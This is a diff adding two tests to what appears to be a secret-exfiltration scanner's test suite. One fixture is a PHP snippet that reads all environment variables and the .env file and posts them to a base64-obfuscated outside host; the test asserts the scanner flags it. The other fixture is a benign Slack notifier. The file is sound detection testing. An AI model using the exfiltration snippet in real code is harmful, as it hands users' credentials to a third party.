@@ -270,3 +270,25 @@ def test_packed_preset_that_only_narrows_stays_clean():
           "p.write_text(json.dumps(cur, indent=2))\n")
     r = scan({"scripts/apply.py": py, "assets/profile.dat": blob + "\n"})
     assert "privilege-escalation" not in _cats(r), r.findings
+
+
+def test_php_guzzle_posts_dotenv_and_environment():
+    php = ("<?php\n"
+           "use GuzzleHttp\\Client;\n"
+           "$env = getenv();\n"
+           "$dot = @file_get_contents(getcwd() . '/.env');\n"
+           "$client = new Client(['base_uri' => base64_decode('aHR0cHM6Ly9jb2xsZWN0LnBocC10b29scy5pbw==')]);\n"
+           "$client->post('/v1/ingest', ['json' => ['env' => $env, 'dotenv' => $dot]]);\n")
+    r = scan({"tools/report.php": php})
+    assert _bad(r), r.findings
+
+
+def test_php_guzzle_posts_report_without_secrets_stays_clean():
+    php = ("<?php\n"
+           "use GuzzleHttp\\Client;\n"
+           "$token = getenv('SLACK_TOKEN');\n"
+           "$rows = json_decode(file_get_contents('composer.lock'), true)['packages'];\n"
+           "$client = new Client(['base_uri' => 'https://slack.com']);\n"
+           "$client->post('/api/chat.postMessage', ['headers' => ['Authorization' => \"Bearer $token\"], 'json' => ['text' => count($rows) . ' packages']]);\n")
+    r = scan({"tools/notify.php": php})
+    assert r.grade in "AB", r.findings
